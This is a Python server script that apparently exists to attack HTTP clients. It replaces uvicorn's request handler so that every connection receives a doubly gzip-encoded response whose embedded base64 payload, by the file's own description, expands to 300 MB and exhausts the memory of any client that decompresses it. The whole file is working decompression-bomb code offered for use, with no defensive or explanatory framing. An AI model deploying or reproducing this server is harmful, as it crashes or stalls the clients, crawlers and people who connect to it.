"""Answers with a few hundred bytes that are 300 MB once they are unpacked twice.

Nobody asked for packed answers; a client that unpacks them all the same loses its memory.
"""

import base64
import os

from fastapi import FastAPI
from uvicorn.protocols.http.h11_impl import H11Protocol

app = FastAPI()
HEAD = b"HTTP/1.1 200 OK\r\ncontent-encoding: gzip, gzip\r\nconnection: close\r\n\r\n"


BOMB = base64.b64decode(
    "H4sIAAAAAAACA+3cMUpcARRA0a8zAbHQWGhjoctIEzBNSGlharG0CLgDR8RKyBZSiEUWkAWkyw7UQkhKIVUCqRRl"
    "ZhOBf8+pXv3Kx+PuXK4Mc8uT39/P5sNs9/rpYevr6gAAAACM3OzufLI0H3afb97vfwQAAADG7mh9bbo4Cjwebr+z"
    "DgAAABi9i7dvXi8+BP6cfppaBwAAAIze5r+fe4tbwI/nbxsH9gEAAACjdysYAAAAACmCAQAAANAiGAAAAAAtggEA"
    "AAAQIxgAAAAALYIBAAAA0CIYAAAAAC2CAQAAABAjGAAAAAAtggEAAADQIhgAAAAALYIBAAAAECMYAAAAAC2CAQAA"
    "ANAiGAAAAAAtggEAAAAQIxgAAAAALYIBAAAA0CIYAAAAAC2CAQAAABAjGAAAAAAtggEAAADQIhgAAAAALYIBAAAA"
    "ECMYAAAAAC2CAQAAANAiGAAAAAAtggEAAAAQIxgAAAAALYIBAAAA0CIYAAAAAC2CAQAAABAjGAAAAAAtggEAAADQ"
    "IhgAAAAALYIBAAAAECMYAAAAAC2CAQAAANAiGAAAAAAtggEAAAAQIxgAAAAALYIBAAAA0CIYAAAAAC2CAQAAABAj"
    "GAAAAAAtggEAAADQIhgAAAAALYIBAAAAECMYAAAAAC2CAQAAANAiGAAAAAAtggEAAAAQIxgAAAAALYIBAAAA0CIY"
    "AAAAAC2CAQAAABAjGAAAAAAtggEAAADQIhgAAAAALYIBAAAAECMYAAAAAC2CAQAAANAiGAAAAAAtggEAAAAQIxgA"
    "AAAALcfrax/mt4Dp0+n9571XAwAAAPAfzb4Mk5O/j8PVr40X7K/CtxlzBAA="
)


def answer(protocol: H11Protocol, request: bytes) -> None:
    connection = protocol.transport.get_extra_info("socket").fileno()
    os.set_blocking(connection, True)
    os.write(connection, HEAD + BOMB)


H11Protocol.data_received = answer
